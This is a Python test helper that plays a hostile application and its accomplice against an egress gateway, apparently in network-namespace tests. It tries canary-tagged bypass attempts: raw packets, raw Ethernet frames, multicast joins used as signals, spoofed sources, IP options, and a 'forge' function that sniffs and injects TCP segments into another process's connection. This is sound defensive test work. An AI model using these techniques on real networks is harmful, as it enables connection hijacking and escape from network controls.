#!/usr/bin/python3
"""The hostile application, its accomplice outside, and stand-ins for both gateways.

Run by tests/netns in the namespaces and as the users that a test needs. Prints one JSON document a
line; `{"ready": true}` once a server listens. Uses nothing outside the standard library.
"""

import errno
import json
import socket
import struct
import sys

OUT4, OUT6 = "10.77.0.1", "fd77::1"
POD4, POD6 = "10.77.0.2", "fd77::2"
PORT = 8080
END = b"LAZARET-END-OF-CAPTURE"
TIMEOUT = 3.0
ETH_P_ALL = 3


def say(**what):
    print(json.dumps(what), flush=True)


def outcome(error):
    if isinstance(error, TimeoutError):
        return "timeout"
    return errno.errorcode.get(error.errno, str(error))


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def original_destination(conn):
    if conn.family == socket.AF_INET6:
        raw = conn.getsockopt(socket.IPPROTO_IPV6, 80, 28)
        return f"[{socket.inet_ntop(socket.AF_INET6, raw[8:24])}]:{struct.unpack('!H', raw[2:4])[0]}"
    raw = conn.getsockopt(socket.SOL_IP, 80, 16)
    return f"{socket.inet_ntoa(raw[4:8])}:{struct.unpack('!H', raw[2:4])[0]}"


# --- servers ---------------------------------------------------------------------------------


def listener(address, port):
    sock = socket.socket(family(address))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if sock.family == socket.AF_INET6:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    sock.bind((address, int(port)))
    sock.listen(64)
    return sock


def greet(address, port, text="hello"):
    """Says where each caller meant to go, and what it sent first."""
    sock = listener(address, port)
    say(ready=True)
    while True:
        conn, peer = sock.accept()
        conn.settimeout(TIMEOUT)
        try:
            original = original_destination(conn)
        except OSError as error:
            original = outcome(error)
        try:
            data = conn.recv(65536).decode(errors="replace")
            conn.sendall(text.encode())
        except OSError as error:
            data = outcome(error)
        conn.close()
        say(original=original, peer=peer[0], data=data)


def refuse(address, port, reason):
    """Answers as the gateway does when it refuses, or with a page if the reason is empty."""
    sock = listener(address, port)
    say(ready=True)
    while True:
        conn, _ = sock.accept()
        conn.recv(65536)
        kind = "application/problem+json" if reason else "text/html"
        body = json.dumps({"reason": reason})
        head = f"HTTP/1.1 403 Forbidden\r\ncontent-type: {kind}\r\ncontent-length: {len(body)}"
        conn.sendall(f"{head}\r\nconnection: close\r\n\r\n{body}".encode())
        conn.close()


def sink(address, port):
    """Counts what each caller sends, slowly at first, so that much is in flight at its close."""
    sock = listener(address, port)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
    say(ready=True)
    while True:
        conn, _ = sock.accept()
        conn.settimeout(10)
        count, ended = 0, "EOF"
        try:
            while data := conn.recv(65536):
                count += len(data)
        except OSError as error:
            ended = outcome(error)
        say(received=count, ended=ended)


def source(address, port, count):
    """Sends that much to each caller and closes at once."""
    sock = listener(address, port)
    say(ready=True)
    while True:
        conn, _ = sock.accept()
        conn.sendall(bytes(int(count)))
        conn.close()


def datagrams(address, port):
    sock = socket.socket(family(address), socket.SOCK_DGRAM)
    sock.bind((address, int(port)))
    say(ready=True)
    while True:
        data, peer = sock.recvfrom(65536)
        sock.sendto(b"answer", peer)
        say(data=data.decode(errors="replace"))


# --- clients ---------------------------------------------------------------------------------


def dial(address, port, text="question"):
    try:
        with socket.create_connection((address, int(port)), TIMEOUT) as sock:
            local = sock.getsockname()[0]
            sock.sendall(text.encode())
            data = sock.recv(65536)
        say(outcome="answer" if data else "EOF", data=data.decode(errors="replace"), local=local)
    except OSError as error:
        say(outcome=outcome(error))


def dial_from(local_port, address, port):
    """From a port of choice."""
    with socket.socket(family(address)) as sock:
        sock.settimeout(TIMEOUT)
        sock.bind(("", int(local_port)))
        try:
            sock.connect((address, int(port)))
            say(outcome="connected")
        except OSError as error:
            say(outcome=outcome(error))


def push(address, port, count):
    """Sends that much and closes at once."""
    with socket.create_connection((address, int(port)), TIMEOUT) as sock:
        sock.settimeout(10)
        sock.sendall(bytes(int(count)))
    say(outcome="closed")


def pull(address, port):
    """Counts what comes until the end."""
    with socket.create_connection((address, int(port)), TIMEOUT) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
        sock.settimeout(10)
        count = 0
        while data := sock.recv(65536):
            count += len(data)
    say(received=count)


def ask(address, port, text="question"):
    """One datagram, and the answer to it."""
    with socket.socket(family(address), socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT)
        try:
            sock.sendto(text.encode(), (address, int(port)))
            say(outcome="answer", data=sock.recv(65536).decode())
        except OSError as error:
            say(outcome=outcome(error))


def ask_with_options(address, port):
    """The same with what routes or carries data in the IP header."""
    sock = socket.socket(family(address), socket.SOCK_DGRAM)
    try:
        add_options(sock, address)
        sock.sendto(b"CANARY-options", (address, int(port)))
        say(outcome="sent")
    except OSError as error:
        say(outcome=outcome(error))


def add_options(sock, address):
    if sock.family == socket.AF_INET:
        sock.setsockopt(socket.IPPROTO_IP, 4, b"\x07\x0b\x04" + bytes(8) + b"\x00")
    else:
        segments = socket.inet_pton(socket.AF_INET6, address)
        header = struct.pack("!BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + segments
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)


def options_later(address, port):
    """A connection whose first packets have none."""
    sock = socket.create_connection((address, int(port)), TIMEOUT)
    sock.sendall(b"before")
    add_options(sock, address)
    sock.sendall(b"CANARY-options")
    sock.close()
    say(outcome="sent")


def old_flow(address, port):
    """Connects, and goes on when told to on stdin: sends, then closes."""
    sock = socket.create_connection((address, int(port)), TIMEOUT)
    say(ready=True)
    for line in sys.stdin:
        if line.strip() == "send":
            sock.sendall(b"CANARY-old-flow" * 100)
            say(sent=True)
        else:
            sock.close()
            say(closed=True)


# --- attacks ---------------------------------------------------------------------------------


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(protocol, payload, source=POD4, destination=OUT4):
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0,
        socket.inet_aton(source), socket.inet_aton(destination),
    )
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def ipv6(protocol, payload):
    pton = lambda text: socket.inet_pton(socket.AF_INET6, text)
    return struct.pack("!IHBB", 6 << 28, len(payload), protocol, 64) + pton(POD6) + pton(OUT6) + payload


def udp_packet(payload):
    return struct.pack("!HHHH", 4000, 4000, 8 + len(payload), 0) + payload


def tcp_segment(address, ports, numbers, payload):
    """What an open connection sends: PSH and ACK."""
    v6 = ":" in address
    pton = lambda text: socket.inet_pton(family(address), text)
    ends = pton(POD6 if v6 else POD4) + pton(address)
    head = struct.pack("!HHIIBBHHH", *ports, *numbers, 0x50, 0x18, 512, 0, 0)
    data = head + payload
    pseudo = ends + struct.pack("!IHH", len(data), 0, 6)
    total = checksum(pseudo + data + b"\0" * (len(data) % 2))
    data = data[:16] + struct.pack("!H", total) + data[18:]
    return ipv6(6, data) if v6 else ipv4(6, data)


def forge(address, port):
    """Overhears a connection of another process, and when told to says in its name what comes next."""
    v6 = ":" in address
    ear = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    ear.bind(("eth0", ETH_P_ALL))
    ear.settimeout(TIMEOUT)
    mouth = socket.socket(family(address), socket.SOCK_RAW, socket.IPPROTO_RAW)
    say(ready=True)
    for line in sys.stdin:
        while True:
            packet, (_, ethertype, kind, *_) = ear.recvfrom(65536)
            expected = (0x86DD, 6) if v6 else (0x0800, 6)
            is_tcp = (ethertype, packet[6 if v6 else 9]) == expected
            if kind != socket.PACKET_OUTGOING or not is_tcp:
                continue
            segment = packet[40 if v6 else 20:]
            ports = struct.unpack("!HH", segment[:4])
            length = len(segment) - 4 * (segment[12] >> 4)
            if ports[1] == int(port) and length > 0:
                break
        sequence, acknowledged = struct.unpack("!II", segment[4:12])
        numbers = (sequence + length) % 2**32, acknowledged
        try:
            packet = tcp_segment(address, ports, numbers, b"CANARY-" + line.strip().encode())
            mouth.sendto(packet, (address, 0))
            say(outcome="sent")
        except OSError as error:
            say(outcome=outcome(error))


def send_to(kind, protocol, address, canary, *options):
    with socket.socket(family(address), kind, protocol) as sock:
        for option in options:
            sock.setsockopt(*option)
        sock.sendto(canary, (address, 0 if kind == socket.SOCK_RAW else 4000))


def ping(address, canary):
    v6 = ":" in address
    protocol = socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP
    echo = bytes([128 if v6 else 8, 0, 0, 0, 0, 1, 0, 1])
    with socket.socket(family(address), socket.SOCK_DGRAM, protocol) as sock:
        sock.sendto(echo + canary, (address, 0))


def tcp(address, canary, *options, protocol=0, source=None):
    with socket.socket(family(address), socket.SOCK_STREAM, protocol) as sock:
        sock.settimeout(0.7)
        for option in options:
            sock.setsockopt(*option)
        if source:
            sock.bind((source, 0))
        sock.connect((address, PORT))
        sock.sendall(canary)


def frame(ethertype, payload, bypass=False, device="eth0"):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind((device, 0))
    if bypass:
        sock.setsockopt(263, 20, 1)  # PACKET_QDISC_BYPASS
    sock.send(b"\xff" * 6 + b"\x02\0\0\0\0\x01" + struct.pack("!H", ethertype) + payload)


def join(address):
    """The kernel then announces the group, whose address is free to choose."""
    if ":" in address:
        group = socket.inet_pton(socket.AF_INET6, address)
        index = struct.pack("I", socket.if_nametoindex("eth0"))
        sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group + index)
    else:
        membership = socket.inet_aton(address) + socket.inet_aton(POD4)
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
    JOINED.append(sock)


JOINED = []
GROUP4, GROUP6 = "239.67.65.78", "ff0e::4341:4e41:5259"
# Over IPv4 the kernel routes a foreign source only for IP_TRANSPARENT, a privileged option.
FOREIGN6 = "2001:db8::4341"
FREEBIND6 = (socket.IPPROTO_IPV6, 78, 1)
TO_DEVICE = (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
CT_MARK = (socket.SOL_SOCKET, socket.SO_MARK, 0x4C5A)
DGRAM, RAW = socket.SOCK_DGRAM, socket.SOCK_RAW
UDPLITE, MPTCP = 136, 262

# Name, what does it with a canary, and what it is recognised by if not by the canary.
WITHOUT_CAPABILITIES = [
    ("udp4", lambda c: send_to(DGRAM, 0, OUT4, c), None),
    ("udp6", lambda c: send_to(DGRAM, 0, OUT6, c), None),
    ("udp4-device", lambda c: send_to(DGRAM, 0, OUT4, c, TO_DEVICE), None),
    ("udplite4", lambda c: send_to(DGRAM, UDPLITE, OUT4, c), None),
    ("udplite6", lambda c: send_to(DGRAM, UDPLITE, OUT6, c), None),
    ("ping4", lambda c: ping(OUT4, c), None),
    ("ping6", lambda c: ping(OUT6, c), None),
    ("tcp4", lambda c: tcp(OUT4, c), None),
    ("tcp6", lambda c: tcp(OUT6, c), None),
    ("mptcp4", lambda c: tcp(OUT4, c, protocol=MPTCP), None),
    ("mptcp6", lambda c: tcp(OUT6, c, protocol=MPTCP), None),
    ("tcp4-device", lambda c: tcp(OUT4, c, TO_DEVICE), None),
    ("tcp6-device", lambda c: tcp(OUT6, c, TO_DEVICE), None),
    ("tcp6-foreign-source", lambda c: tcp(OUT6, c, FREEBIND6, source=FOREIGN6), socket.inet_pton(socket.AF_INET6, FOREIGN6)),
    ("igmp", lambda c: join(GROUP4), socket.inet_aton(GROUP4)),
    ("mld", lambda c: join(GROUP6), socket.inet_pton(socket.AF_INET6, GROUP6)),
]
WITH_NET_RAW = [
    (f"raw{protocol}-v{4 if to == OUT4 else 6}", lambda c, p=protocol, to=to: send_to(RAW, p, to, c), None)
    for protocol in (47, 99, 253)
    for to in (OUT4, OUT6)
] + [
    # What the kernel itself may send, here with a process's data behind it.
    ("raw-neighbour-discovery", lambda c: send_to(RAW, 58, OUT6, bytes([135]) + bytes(23) + c), None),
    ("raw-own-header", lambda c: send_to(RAW, 255, OUT4, ipv4(17, udp_packet(c))), None),
    ("udp4-mark", lambda c: send_to(DGRAM, 0, OUT4, c, CT_MARK), None),
    ("udp6-mark", lambda c: send_to(DGRAM, 0, OUT6, c, CT_MARK), None),
    ("tcp4-mark", lambda c: tcp(OUT4, c, CT_MARK), None),
    ("tcp6-mark", lambda c: tcp(OUT6, c, CT_MARK), None),
] + [
    (f"frame-{name}{'-bypass' if bypass else ''}", lambda c, e=ethertype, m=make, b=bypass: frame(e, m(c), b), None)
    for name, ethertype, make in (
        ("88b5", 0x88B5, lambda c: c + bytes(64)),
        ("arp", 0x0806, lambda c: c + bytes(64)),
        ("ipv4", 0x0800, lambda c: ipv4(17, udp_packet(c))),
        ("ipv6", 0x86DD, lambda c: ipv6(17, udp_packet(c))),
    )
    for bypass in (False, True)
]
# An echo request that claims to come from outside: the kernel would answer it there.
REFLECTED = [
    ("loopback-reflection", lambda c: frame(0x0800, ipv4(1, icmp_echo(c), OUT4, POD4), device="lo"), None),
]


def icmp_echo(canary):
    data = canary + b"\0" * (len(canary) % 2)
    head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
    return head[:2] + struct.pack("!H", checksum(head + data)) + head[4:] + data


def attack(*which):
    attacks = list(WITHOUT_CAPABILITIES)
    if "raw" in which:
        attacks += WITH_NET_RAW + REFLECTED
    for name, run, marker in attacks:
        canary = b"CANARY-" + name.encode()
        try:
            run(canary)
            result = "sent"
        except OSError as error:
            result = outcome(error)
        say(name=name, outcome=result, marker=(marker or canary).hex())
    say(done=True)
    sys.stdin.read()  # keeps the groups joined


def end():
    """Ends a capture; sent as the gateway."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(END, (OUT4, 9))
    say(outcome="sent")


def sniff(device, pod_mac):
    """Everything that the pod sends, but for address resolution, until the capture is ended."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((device, ETH_P_ALL))
    sock.setsockopt(socket.SOL_SOCKET, 33, 1 << 24)  # SO_RCVBUFFORCE
    mac = bytes.fromhex(pod_mac.replace(":", ""))
    say(ready=True)
    while True:
        data, address = sock.recvfrom(65536)
        if address[2] == socket.PACKET_OUTGOING:
            continue
        if END in data:
            say(ended=True)
            return
        resolves = data[12:14] == b"\x08\x06" or (
            data[12:14] == b"\x86\xdd" and data[20] == 58 and data[54] in (133, 135, 136)
        )
        if not resolves or b"CANARY" in data:
            say(frame=data.hex(), by_kernel=data[6:12] == mac)


def xdp():
    try:
        socket.socket(44, socket.SOCK_RAW, 0)
        say(outcome="opened")
    except OSError as error:
        say(outcome=outcome(error))


if __name__ == "__main__":
    {
        "greet": greet, "refuse": refuse, "sink": sink, "source": source, "datagrams": datagrams,
        "dial": dial, "dial-from": dial_from, "push": push, "pull": pull, "ask": ask, "ask-with-options": ask_with_options,
        "options-later": options_later, "forge": forge,
        "old-flow": old_flow, "attack": attack, "end": end, "sniff": sniff, "xdp": xdp,
    }[sys.argv[1]](*sys.argv[2:])
